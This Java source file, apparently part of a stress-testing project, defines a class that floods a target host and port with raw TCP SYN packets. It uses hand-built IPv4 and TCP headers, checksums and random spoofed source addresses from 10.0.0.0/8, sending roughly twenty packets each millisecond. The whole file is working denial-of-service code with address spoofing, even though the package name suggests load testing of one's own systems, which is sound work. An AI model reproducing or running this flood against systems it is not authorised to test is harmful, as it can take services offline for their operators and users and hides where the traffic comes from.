package org.kamaelia.stress;

import static java.lang.foreign.ValueLayout.ADDRESS;
import static java.lang.foreign.ValueLayout.JAVA_INT;
import static java.lang.foreign.ValueLayout.JAVA_LONG;

import java.io.IOException;
import java.lang.foreign.Arena;
import java.lang.foreign.FunctionDescriptor;
import java.lang.foreign.Linker;
import java.lang.foreign.MemorySegment;
import java.lang.invoke.MethodHandle;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.SplittableRandom;
import java.util.concurrent.locks.LockSupport;

/**
 * Opens connections to half: sends SYNs of its own making from addresses of 10.0.0.0/8, where
 * nobody answers. Needs the right to raw sockets (CAP_NET_RAW).
 */
final class Syns implements Harm {
  private static final int AF_INET = 2;
  private static final int SOCK_RAW = 3;
  private static final int IPPROTO_RAW = 255;
  private static final int HEADERS = 40;

  /** How many in each millisecond. */
  private static final int BATCH = 20;

  private final InetSocketAddress target;
  private final Thread thread;
  private final int socket;
  private volatile boolean over;
  private volatile long sent;

  private static final Linker LINKER = Linker.nativeLinker();
  private static final MethodHandle SOCKET =
      call("socket", FunctionDescriptor.of(JAVA_INT, JAVA_INT, JAVA_INT, JAVA_INT));
  private static final MethodHandle CLOSE =
      call("close", FunctionDescriptor.of(JAVA_INT, JAVA_INT));
  private static final MethodHandle SENDTO =
      call(
          "sendto",
          FunctionDescriptor.of(
              JAVA_LONG, JAVA_INT, ADDRESS, JAVA_LONG, JAVA_INT, ADDRESS, JAVA_INT));

  @SuppressWarnings("restricted")
  private static MethodHandle call(String name, FunctionDescriptor type) {
    return LINKER.downcallHandle(LINKER.defaultLookup().findOrThrow(name), type);
  }

  /**
   * @throws IOException if raw sockets are not allowed
   */
  Syns(InetSocketAddress target) throws IOException {
    this.target = target;
    try {
      socket = (int) SOCKET.invokeExact(AF_INET, SOCK_RAW, IPPROTO_RAW);
    } catch (Throwable e) {
      throw new AssertionError(e);
    }
    if (socket < 0) {
      throw new IOException("raw sockets are not allowed");
    }
    thread = Thread.ofPlatform().daemon().name("syns").start(this::run);
  }

  @Override
  public long attempts() {
    return sent;
  }

  private void run() {
    var random = new SplittableRandom(1);
    try (Arena arena = Arena.ofConfined()) {
      MemorySegment packet = arena.allocate(HEADERS);
      MemorySegment to = arena.allocate(16);
      to.asByteBuffer()
          .order(ByteOrder.nativeOrder())
          .putShort((short) AF_INET)
          .order(ByteOrder.BIG_ENDIAN)
          .putShort((short) target.getPort())
          .put(target.getAddress().getAddress());
      while (!over) {
        for (int i = 0; i < BATCH; i++) {
          write(packet.asByteBuffer(), random);
          if ((long) SENDTO.invokeExact(socket, packet, (long) HEADERS, 0, to, 16) == HEADERS) {
            sent++;
          }
        }
        LockSupport.parkNanos(1_000_000);
      }
      var _ = (int) CLOSE.invokeExact(socket);
    } catch (Throwable e) {
      throw new AssertionError(e);
    }
  }

  /** RFC 791 and RFC 9293, section 3.1; the system fills in the sum over the first header. */
  private void write(ByteBuffer packet, SplittableRandom random) {
    int source = 10 << 24 | random.nextInt(1, 1 << 24);
    int destination = ByteBuffer.wrap(target.getAddress().getAddress()).getInt();
    packet.order(ByteOrder.BIG_ENDIAN);
    packet.put((byte) 0x45).put((byte) 0).putShort((short) HEADERS).putInt(0);
    packet.put((byte) 64).put((byte) 6).putShort((short) 0).putInt(source).putInt(destination);
    packet.putShort((short) random.nextInt(1024, 65536)).putShort((short) target.getPort());
    packet
        .putInt(random.nextInt())
        .putInt(0)
        .putShort((short) 0x5002)
        .putShort((short) 64240)
        .putInt(0);
    int sum =
        (source >>> 16)
            + (source & 0xffff)
            + (destination >>> 16)
            + (destination & 0xffff)
            + 6
            + 20;
    for (int at = 20; at < HEADERS; at += 2) {
      sum += Short.toUnsignedInt(packet.getShort(at));
    }
    sum = (sum & 0xffff) + (sum >>> 16);
    packet.putShort(36, (short) ~((sum & 0xffff) + (sum >>> 16)));
  }

  @Override
  public void close() {
    over = true;
    try {
      thread.join();
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }
}
